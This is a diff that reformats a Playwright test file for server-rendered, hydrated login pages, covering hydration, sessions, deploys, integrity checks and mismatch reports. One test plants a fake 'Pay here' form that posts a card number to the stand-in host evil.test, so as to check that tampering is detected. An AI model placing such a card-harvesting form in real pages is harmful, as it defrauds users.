@@ -5,7 +5,15 @@ import type { Page } from '@playwright/test';
 import { test, expect } from '../support/fixtures';
 import { sandbox } from '../support/sandbox';
 import { loginViaApi } from '../support/session';
-import { cli, deployTestBuild, editEntry, liveVersion, restoreRegistryAfterEach, ROOT, s } from '../delivery/delivery-helpers';
+import {
+  cli,
+  deployTestBuild,
+  editEntry,
+  liveVersion,
+  restoreRegistryAfterEach,
+  ROOT,
+  s,
+} from '../delivery/delivery-helpers';
 
 /**
  * Public pages come rendered in the first HTML (docs/server-render.md) and are hydrated, not replaced.
@@ -18,7 +26,8 @@ const rootHtml = async (page: Page, path: string) => {
   const res = await page.request.get(path, { headers: { accept: 'text/html' } });
   return /<div id="root">([\s\S]*)<\/div><\/body>/.exec(await res.text())?.[1] ?? '';
 };
-const hydrated = (page: Page) => page.waitForFunction(() => (window as { __pageHydrated?: boolean }).__pageHydrated === true);
+const hydrated = (page: Page) =>
+  page.waitForFunction(() => (window as { __pageHydrated?: boolean }).__pageHydrated === true);
 const sri = (bytes: Buffer | string) => `sha384-${createHash('sha384').update(bytes).digest('base64')}`;
 
 test.describe('without JavaScript', () => {
@@ -39,7 +48,9 @@ test.describe('without JavaScript', () => {
   });
 });
 
-test('typed before hydration stays; the page is hydrated, not replaced; the login button then sends one request', async ({ page }) => {
+test('typed before hydration stays; the page is hydrated, not replaced; the login button then sends one request', async ({
+  page,
+}) => {
   await sandbox.resetStats();
   let release!: () => void;
   const held = new Promise<void>((r) => (release = r));
@@ -62,7 +73,10 @@ test('typed before hydration stays; the page is hydrated, not replaced; the logi
   expect((await sandbox.stats()).paths['POST /sso/auth/token/'] ?? 0).toBe(1);
 });
 
-test('text typed before hydration is in the form once hydrated; the focused field keeps focus; axe clean', async ({ page, axe }) => {
+test('text typed before hydration is in the form once hydrated; the focused field keeps focus; axe clean', async ({
+  page,
+  axe,
+}) => {
   let release!: () => void;
   const held = new Promise<void>((r) => (release = r));
   await page.route(`${s.cdnOrigin}/${REMOTE}/**/*.js`, async (route) => {
@@ -87,7 +101,9 @@ test('text typed before hydration is in the form once hydrated; the focused fiel
   await axe.check('server-rendered login (en), hydrated');
 });
 
-test('a signed-in visitor on a server-rendered page: the HTML made for a visitor without session never shows, the session decides', async ({ page }) => {
+test('a signed-in visitor on a server-rendered page: the HTML made for a visitor without session never shows, the session decides', async ({
+  page,
+}) => {
   await loginViaApi(page, 'cabinet@sandbox.test');
   let release!: () => void;
   const held = new Promise<void>((r) => (release = r));
@@ -108,7 +124,9 @@ test('a signed-in visitor on a server-rendered page: the HTML made for a visitor
   await expect(page).toHaveURL(/\/en\/profile/); // the redirect rule for a signed-in client
 });
 
-test('a deploy of a changed onboarding build changes the next server HTML; a rollback brings the old back', async ({ page }) => {
+test('a deploy of a changed onboarding build changes the next server HTML; a rollback brings the old back', async ({
+  page,
+}) => {
   test.setTimeout(180_000);
   expect(await rootHtml(page, '/uk/login')).toContain('data-testid="screen-login"');
   expect(await rootHtml(page, '/uk/login')).not.toContain('release-label');
@@ -145,10 +163,15 @@ function liveCopy(tag: string, change: (dir: string) => { integrity?: string }):
   return version;
 }
 
-test('a tampered server part: the page is served client-rendered, works, and the failure is reported', async ({ page }) => {
+test('a tampered server part: the page is served client-rendered, works, and the failure is reported', async ({
+  page,
+}) => {
   await sandbox.clearReports();
   const version = liveCopy('tampered', (dir) => {
-    rewrite(join(dir, 'ssr/login.uk.html'), '<h1>Pay here</h1><form action="https://evil.test"><input name="card"></form>');
+    rewrite(
+      join(dir, 'ssr/login.uk.html'),
+      '<h1>Pay here</h1><form action="https://evil.test"><input name="card"></form>',
+    );
     return {};
   });
   const html = await rootHtml(page, '/uk/login');
@@ -157,10 +180,20 @@ test('a tampered server part: the page is served client-rendered, works, and the
   await expect(page.getByTestId('screen-login')).toBeVisible();
   await expect(page.getByText('Pay here')).toHaveCount(0);
   const reports = await sandbox.reports();
-  expect(reports).toContainEqual(expect.objectContaining({ kind: 'server-render', remote: REMOTE, version, message: expect.stringMatching(/integrity/) }));
+  expect(reports).toContainEqual(
+    expect.objectContaining({
+      kind: 'server-render',
+      remote: REMOTE,
+      version,
+      message: expect.stringMatching(/integrity/),
+    }),
+  );
 });
 
-test('a hydration mismatch: that part is rendered by the browser, no flash of the fallback, and reported', async ({ page, consoleGuard }) => {
+test('a hydration mismatch: that part is rendered by the browser, no flash of the fallback, and reported', async ({
+  page,
+  consoleGuard,
+}) => {
   consoleGuard.allow(/\[report\] hydration/);
   await sandbox.clearReports();
   // a version whose server HTML says something else than its code renders (integrity list made to agree)
@@ -177,5 +210,7 @@ test('a hydration mismatch: that part is rendered by the browser, no flash of th
   await page.goto('/en/login');
   await expect(page.getByRole('heading', { level: 1, name: 'Log in', exact: true })).toBeVisible();
   await expect(page.getByTestId('remote-loading')).toHaveCount(0);
-  await expect.poll(async () => (await sandbox.reports()).filter((r) => r.kind === 'hydration')).toContainEqual(expect.objectContaining({ remote: REMOTE, version }));
+  await expect
+    .poll(async () => (await sandbox.reports()).filter((r) => r.kind === 'hydration'))
+    .toContainEqual(expect.objectContaining({ remote: REMOTE, version }));
 });
